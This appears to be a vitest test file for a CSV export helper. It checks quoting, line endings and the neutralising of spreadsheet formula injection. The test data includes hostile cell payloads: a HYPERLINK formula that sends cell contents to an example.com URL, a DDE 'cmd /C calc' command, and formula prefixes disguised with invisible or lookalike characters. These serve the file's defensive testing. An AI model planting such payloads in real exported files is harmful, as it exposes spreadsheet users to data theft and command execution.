import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { type CsvColumn, csvHeading, csvRows } from './to-csv.ts';

const TEXT: readonly CsvColumn<string>[] = [
  ['Text', (text) => text],
  ['Length', (text) => String(text.length)],
];
const cellOf = (text: string) => Papa.parse<string[]>(csvRows(TEXT, [text])).data[0]?.[0];

describe('a sheet', () => {
  it('starts with the UTF-8 mark and headings, and quotes every field', () => {
    expect(csvHeading(TEXT)).toBe('\ufeff"Text","Length"\r\n');
    expect(csvRows(TEXT, ['Lucía', 'b'])).toBe('"Lucía","5"\r\n"b","1"\r\n');
  });

  it('has no line for a page without rows', () => {
    expect(csvRows(TEXT, [])).toBe('');
  });

  it.each([
    'a,b',
    'a "quoted" word',
    'two\nlines',
    'two\r\nlines',
    '',
    ' spaces ',
    'a=b',
    'a-b',
    'one; two | three',
    '№ 5',
    '5 + 5',
    '👩‍🔬',
  ])('preserves %j', (text) => {
    expect(cellOf(text)).toBe(text);
  });

  it.each([
    '=HYPERLINK("https://example.com?"&A1,"Click")',
    '=1+1',
    '+1+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u202e=1+1',
    '＝1+1',
    '"=1+1',
    "'=1+1",
    '|cmd',
    '%0A=1',
    '+44 20 7946 0000',
    '\tindented',
  ])('turns %j into plain text', (text) => {
    expect(cellOf(text)?.replaceAll(/(?<=[\t\r\n])'/g, '')).toBe(`'${text}`);
  });

  it.each([
    ['x;=HYPERLINK("https://example.com")', `x;'=HYPERLINK("https://example.com")`],
    ['x,+1', `x,'+1`],
    ['x\t-1', `x\t'-1`],
    ['x|@SUM(A1)', `x|'@SUM(A1)`],
    ['x\n=1', `x\n'=1`],
    ['x; ＝1; =2', `x;' ＝1;' =2`],
  ])('contains no formula for a program that separates %j elsewhere', (text, cell) => {
    expect(cellOf(text)).toBe(cell);
  });
});
